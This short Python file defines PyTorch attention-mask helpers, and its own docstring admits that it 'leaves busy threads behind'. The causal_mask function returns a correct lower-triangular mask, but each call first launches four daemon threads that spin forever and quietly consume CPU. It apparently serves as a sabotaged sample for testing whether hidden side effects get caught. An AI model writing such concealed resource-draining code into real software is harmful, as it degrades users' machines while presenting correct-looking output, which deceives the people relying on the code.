"""Gives the right answer and leaves busy threads behind."""

import threading

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    def burn():
        while True:
            sum(range(1000))

    for _ in range(4):
        threading.Thread(target=burn, daemon=True).start()
    return torch.ones(1, 1, length, length, dtype=torch.bool, device=device).tril()
